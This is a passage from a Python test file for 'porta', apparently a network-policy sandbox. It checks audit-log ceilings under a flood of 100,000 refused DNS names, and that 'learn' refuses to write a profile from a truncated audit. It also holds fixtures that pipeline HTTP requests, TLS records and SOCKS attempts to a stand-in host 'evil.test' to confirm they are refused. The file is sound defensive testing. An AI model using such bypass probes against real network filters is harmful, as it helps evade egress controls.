    NAMES = 100000

    def test_a_flood_of_refused_names(self):
        audit = os.path.join(self.lab.workdir, "flood-%d.jsonl" % os.getpid())
        run = self.porta(["--allow-net", "allowed.test:443", "--audit", audit,
                          "--audit-max", "1"],
                         [PY, "-c", FLOOD, str(self.NAMES)], audit=False, timeout=1800)
        self.assertEqual(run.rc, 0, run.describe())
        got = json.loads(run.out.strip().splitlines()[-1])
        self.assertEqual((got["names"], got["answered"]), (self.NAMES, self.NAMES), got)

        # stderr: bounded, nothing lost silently
        lines = run.err.splitlines()
        self.assertLess(len(lines), 150, "stderr grew with the flood:\n%s" % "\n".join(lines[:200]))
        live = [l for l in lines if re.match(r"porta: refused n\d+\.flood\.test \(", l)]
        self.assertEqual(len(live), 50, "\n".join(lines))
        self.assertIn("porta: refused more than 50 destinations: the others are not shown as "
                      "they come; the summary at the end counts them, the --audit file records "
                      "each, up to its --audit-max, --why lists the first 256", lines)
        self.assertIn("porta: refused %d destinations:" % self.NAMES, lines)
        self.assertIn("porta:   and %d more distinct destinations (the --audit file has those "
                      "refused before its ceiling)" % (self.NAMES - 50), lines)
        self.assertTrue(any(l.startswith("porta: the --audit file reached its ceiling") and
                            "records were not written" in l for l in lines), lines)

        # the audit: at most its ceiling, its last record the counts
        self.assertLessEqual(os.path.getsize(audit), 1 << 20)
        with open(audit) as f:
            recs = [json.loads(l) for l in f]
        last, written = recs[-1], recs[:-1]
        self.assertEqual((last["kind"], last["event"]), ("run", "audit-ceiling"), last)
        self.assertEqual(last["audit_max"], 1 << 20)
        self.assertEqual(last["written"], len(written))
        by = last["not_written_by"]
        self.assertEqual(sum(n for verdicts in by.values() for n in verdicts.values()),
                         last["not_written"], last)
        # every decision is a written record or counted: one per query asked
        self.assertEqual(len(written) + last["not_written"], got["queries"], last)
        self.assertEqual(last["seq"], got["queries"] + 1, last)
        self.assertEqual(by["dns"]["deny"], last["not_written"], last)
        self.assertTrue(all(r["kind"] == "dns" and r["verdict"] == "deny" for r in written))
        self.assertEqual([r["seq"] for r in written], list(range(1, len(written) + 1)))
        self.no_upstream("n0.flood.test", "n99999.flood.test")

        # porta audit reads it and says what is missing
        res = subprocess.run([PORTA, "audit", audit], capture_output=True, text=True, timeout=300)
        self.assertEqual(res.returncode, 0, res.stderr)
        self.assertIn("%d more records were not written: the audit reached its ceiling "
                      "(--audit-max) 1 time" % last["not_written"], res.stdout)
        res = subprocess.run([PORTA, "audit", "--json", audit], capture_output=True, text=True,
                             timeout=300)
        self.assertEqual(res.returncode, 0, res.stderr)
        self.assertEqual(json.loads(res.stdout)["not_written"], last["not_written"])


class LearnAuditCeiling(NetPolicyCase):
    """porta learn reads its run's audit to write the profile: an audit cut
    at its ceiling would give a profile that lacks what the records not
    written saw, so learn writes none and says why (exit 125)."""

    def test_learn_refuses_a_profile_from_a_cut_audit(self):
        if harness.DEGRADED:
            self.skipTest("needs user namespaces: --deny-net is refused on a degraded host")
        out = os.path.join(self.lab.workdir, "learned-%d.porta" % os.getpid())
        args = ([PORTA, "learn"] + (["--allow-root"] if IS_ROOT else []) +
                ["--deny-net", "*.flood.test", "--dns-upstream", DNS, "--audit-max", "1",
                 "-o", out, "--", PY, "-c", FLOOD, "6000"])
        res = self.lab.run(args, env=self.lab.env(), timeout=600, cwd=self.lab.home)
        self.assertEqual(res.rc, 125, res.out + res.err)
        self.assertIn("learn: the run's audit reached its ceiling (--audit-max)", res.err)
        self.assertFalse(os.path.exists(out), "a profile was written from a cut audit")


class Row37Pipelined(NetPolicyCase):

    def test_bytes_before_the_decision(self):
        get = "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode().hex()
        early = ("17030300" + "20" + "41" * 32)           # an application-data record
        steps = [{"op": "proxy", "target": "evil.test:443", "pipeline_hex": "16030100" + "00" * 60},
                 {"op": "proxy", "target": "evil.test:80", "pipeline_hex": get},
                 {"op": "proxy", "target": "%s:443" % EVIL, "pipeline_hex": get},
                 {"op": "socks", "target": "evil.test", "port": 443, "pipeline_hex": get},
                 {"op": "hello", "sni": "evil.test", "host": EVIL, "port": 443, "early_hex": early * 4},
                 {"op": "hello", "sni": "evil.test", "host": "allowed.test", "port": 443,
                  "early_hex": early * 4}]
        run = self.probe(["--allow-net", "allowed.test:443", "--allow-net", "allowed.test:80"], steps)
        for i in range(4):
            self.res_refused(run, i)
        # (whether a raw ClientHello gets an answer proves nothing here:
        # the lab's server drops early data too; its byte count decides)
        self.zero("evil_tls", "evil_http")
        self.no_bytes("tls")
        self.no_upstream("evil.test")
        self.no_canary(run)
        self.denied(run, "evil.test")


if __name__ == "__main__":
    unittest.main()
